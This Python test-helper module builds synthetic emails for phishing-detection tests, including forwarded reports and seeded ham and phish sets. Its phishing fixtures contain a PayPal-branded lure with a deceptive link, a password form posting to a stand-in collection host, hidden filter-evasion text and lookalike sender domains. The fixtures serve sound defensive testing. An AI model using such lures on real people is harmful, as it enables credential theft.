"""Build small, realistic test messages in code.

Crafted messages keep each test's input next to its assertion; no corpus
file is needed, so the tests run on a plain clone.
"""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import random
from email.message import EmailMessage
from email.utils import format_datetime

DATE = format_datetime(dt.datetime(2024, 3, 5, 9, 30, tzinfo=dt.UTC))


def plain(
    body: str = (
        "Hi Ann,\n\nthe minutes from Tuesday are attached below.\n\nBest,\nBob\n"
    ),
    *,
    subject: str = "Minutes from Tuesday",
    sender: str = "Bob Smith <bob@example.org>",
    to: str = "ann@example.org",
    reply_to: str | None = None,
    msgid: str = "<20240305093000.1234@example.org>",
    extra: dict[str, str] | None = None,
) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = DATE
    msg["Message-ID"] = msgid
    if reply_to:
        msg["Reply-To"] = reply_to
    for key, value in (extra or {}).items():
        msg[key] = value
    msg.set_content(body)
    return msg


def html(
    html_body: str,
    *,
    text_body: str | None = "Please view this message in HTML.",
    **kwargs: object,
) -> EmailMessage:
    msg = plain(text_body or "", **kwargs)  # type: ignore[arg-type]
    if text_body is None:
        msg.set_content(html_body, subtype="html")
    else:
        msg.add_alternative(html_body, subtype="html")
    return msg


PHISH_HTML = """<html><body>
<p>Dear customer,</p>
<p>We detected unusual activity on your account. Your account will be suspended
within 24 hours unless you verify your password immediately.</p>
<p><a href="http://198.51.100.7/paypal.com/webscr/login.php">https://www.paypal.com/signin</a></p>
<form action="https://collect.evil-host.top/post.php" method="post">
<input type="text" name="email"><input type="password" name="pass">
<input type="submit" value="Verify">
</form>
<div style="display:none">hidden filler text for the filters</div>
</body></html>"""


def phish(**kwargs: object) -> EmailMessage:
    defaults: dict[str, object] = {
        "subject": "Urgent: verify your PayPal account",
        "sender": "PayPal Service <service@paypa1-secure.top>",
        "reply_to": "support@mail-collect.ru",
        "msgid": "<abc123@mailer.bulk-sender.ru>",
    }
    defaults.update(kwargs)
    return html(PHISH_HTML, text_body=None, **defaults)  # type: ignore[arg-type]


def as_bytes(msg: EmailMessage) -> bytes:
    return msg.as_bytes()


def forward_as_attachment(
    *originals: bytes,
    reporter: str = "ann@example.org",
    to: str = "phish@example.org",
    msgid: str = "<report.1@example.org>",
) -> EmailMessage:
    """A report as mail clients send "forward as attachment": message/rfc822."""
    report = plain(
        "Looks like phishing to me.\n",
        subject="Fwd: suspicious",
        sender=reporter,
        to=to,
        msgid=msgid,
    )
    for original in originals:
        report.add_attachment(
            email.message_from_bytes(original, policy=email.policy.default),
            filename="original.eml",
        )
    return report


def forward_inline(
    original: EmailMessage,
    *,
    reporter: str = "ann@example.org",
    to: str = "phish@example.org",
    marker: str = "---------- Forwarded message ---------",
) -> EmailMessage:
    """A report as a quoted inline forward (Gmail's layout by default)."""
    part = original.get_body(("plain", "html"))
    text = part.get_content() if part is not None else ""
    quoted = (
        f"FYI\n\n{marker}\nFrom: {original['From']}\nDate: {original['Date']}\n"
        f"Subject: {original['Subject']}\nTo: {original['To']}\n\n{text}"
    )
    return plain(quoted, subject=f"Fwd: {original['Subject']}", sender=reporter, to=to)


# -- Crafted label sets: many distinct messages, reproducible by seed --------

HAM_WORDS = [
    "meeting",
    "agenda",
    "patch",
    "review",
    "build",
    "minutes",
    "lunch",
    "release",
    "notes",
]
PHISH_WORDS = [
    "verify",
    "account",
    "suspended",
    "password",
    "urgent",
    "confirm",
    "login",
    "locked",
]
BRANDS = ("paypal", "microsoft", "netflix", "docusign")


def crafted_ham(rng: random.Random, i: int) -> bytes:
    """A plain colleague-to-colleague message made from a word pool."""
    words = " ".join(rng.choice(HAM_WORDS) for _ in range(rng.randint(20, 60)))
    user = rng.choice(("ann", "bob", "eve", "joe"))
    return as_bytes(
        plain(
            f"Hi,\n\n{words}.\n\n-- \n{user}\n",
            subject=" ".join(rng.choice(HAM_WORDS) for _ in range(4)),
            sender=f"{user.title()} <{user}@example.org>",
            msgid=f"<ham{i}.{rng.randint(0, 10**9)}@example.org>",
        )
    )


def crafted_phish(rng: random.Random, i: int) -> bytes:
    """A credential phish (brand lookalike link, password form) from a word pool."""
    brand = rng.choice(BRANDS)
    words = " ".join(rng.choice(PHISH_WORDS) for _ in range(rng.randint(15, 40)))
    host = f"{brand}-{rng.randint(100, 999)}.example-login.top"
    body = (
        f"<p>Dear customer, {words}</p>"
        f'<p><a href="http://{host}/verify">https://www.{brand}.com/account</a></p>'
        f'<form action="http://{host}/p"><input type="password"></form>'
    )
    return as_bytes(
        html(
            body,
            text_body=None,
            subject=f"{brand.title()}: {rng.choice(PHISH_WORDS)} your account",
            sender=f"{brand.title()} Support <no-reply@{host}>",
            msgid=f"<p{i}.{rng.randint(0, 10**9)}@{host}>",
        )
    )
